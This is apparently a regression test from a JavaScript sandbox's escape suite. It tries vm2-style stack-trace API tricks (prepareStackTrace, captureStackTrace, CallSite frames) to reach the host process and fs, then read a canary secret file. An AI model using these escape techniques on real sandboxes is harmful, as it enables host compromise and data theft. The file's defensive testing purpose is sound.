// attack: V8 stack-trace API in every spelling: Error.prepareStackTrace set (and read back) before host errors are made (capability failures, console, TextDecoder), Error.captureStackTrace on plain objects, on a Proxy (its defineProperty trap sees the host's descriptor), with a capability as constructorOpt, Error.stackTraceLimit = Infinity/0/getter; then hunt every stack string for CallSite objects or host paths and climb whatever was collected
// source: CVE-2022-36067 (vm2 SandBreak, prepareStackTrace), CVE-2023-29017 (vm2 prepareStackTrace exception sanitisation), GHSA-v27g-jcqj-v8rw (CallSite host-frame disclosure); V8 docs 'Stack trace API'
// needs: fs
// category: escape
// expect: blocked - the shared Error's prepareStackTrace/stackTraceLimit are inert accessors, captureStackTrace only writes an empty stack, guests see no CallSites or host paths
const ID = '108-stack-trace-apis';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [];
const stacks = [];
const frames = [];
const collect = (label) => (err, cs) => { frames.push([label, cs]); values.push([label + ' err', err], [label + ' callsites', cs]); return 'collected'; };
try { Error.prepareStackTrace = collect('prepareStackTrace'); note('prepareStackTrace assignment accepted'); } catch (e) { note('assign prepareStackTrace: ' + msg(e)); }
try { const got = Error.prepareStackTrace; values.push(['prepareStackTrace read back', got]); note('read back is ours: ' + (got === undefined ? 'undefined' : String(got).slice(0, 40))); } catch (e) {}
try { Error.stackTraceLimit = Infinity; note('stackTraceLimit now ' + String(Error.stackTraceLimit)); } catch (e) { note('stackTraceLimit: ' + msg(e)); }
try { Object.defineProperty(Error, 'stackTraceLimit', { get() { values.push(['stackTraceLimit getter this', this]); return 50; } }); note('stackTraceLimit redefined!'); } catch (e) { note('redefine stackTraceLimit: ' + msg(e)); }
const makeErrors = async () => {
  const out = [];
  try { await fs.readFile('missing.txt'); } catch (e) { out.push(['capability ENOENT', e]); }
  try { await fs.readFile(42); } catch (e) { out.push(['capability schema', e]); }
  try { await fs.writeFile('../x', 'x'); } catch (e) { out.push(['capability denied', e]); }
  try { new TextDecoder('no-such-encoding'); } catch (e) { out.push(['TextDecoder', e]); }
  try { null.x; } catch (e) { out.push(['engine TypeError', e]); }
  out.push(['new Error', new Error('guest')]);
  return out;
};
for (const [label, e] of await makeErrors()) {
  values.push([label, e]);
  try { const s = e.stack; stacks.push([label, typeof s === 'string' ? s.slice(0, 300) : typeof s]); if (s && typeof s === 'object') values.push([label + ' stack object', s]); } catch (x) { note(label + ' stack: ' + msg(x)); }
}
const target = {};
try { Error.captureStackTrace(target); stacks.push(['captureStackTrace({})', String(target.stack).slice(0, 300)]); } catch (e) { note('captureStackTrace({}): ' + msg(e)); }
try { Error.captureStackTrace(target, fs.readFile); note('captureStackTrace with capability constructorOpt: ' + String(target.stack).slice(0, 60)); } catch (e) { note('constructorOpt: ' + msg(e)); }
const spy = new Proxy({}, { defineProperty(t, k, d) { values.push(['captureStackTrace descriptor ' + String(k), d]); if (d && d.get) values.push(['descriptor getter', d.get]); if (d && d.set) values.push(['descriptor setter', d.set]); return Reflect.defineProperty(t, k, d); } });
try { Error.captureStackTrace(spy); } catch (e) { note('captureStackTrace(proxy): ' + msg(e)); }
try { const fn = function () {}; Error.captureStackTrace(fn); values.push(['captured on a function', fn.stack]); } catch (e) { note('captureStackTrace(fn): ' + msg(e)); }
try { (function deep(n) { if (n > 0) return deep(n - 1); Error.prepareStackTrace = collect('deep'); return new Error('d').stack; })(2000); } catch (e) { note('deep: ' + msg(e)); }
// a host frame on the stack: the capability's synchronous part calls our toString? (it must not)
try { await fs.readFile({ toString() { stacks.push(['inside host call', new Error().stack]); return 'data.txt'; } }); } catch (e) { note('toString path: ' + msg(e)); }
for (const [label, cs] of frames) {
  if (Array.isArray(cs)) for (const f of cs) for (const m of ['getThis', 'getFunction', 'getFileName', 'getEvalOrigin']) {
    try { const v = f[m] && f[m](); if (v) values.push([label + ' ' + m, v]); } catch (e) {}
  }
}
const hostPaths = stacks.filter(([, s]) => /\/(work|home|usr|tmp|node_modules)\//.test(String(s))).map(([l]) => l);
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold, callSiteBatches: frames.length, stackSamples: stacks.map(([l, s]) => l + ': ' + JSON.stringify(String(s).slice(0, 60))), stacksWithHostPaths: hostPaths };
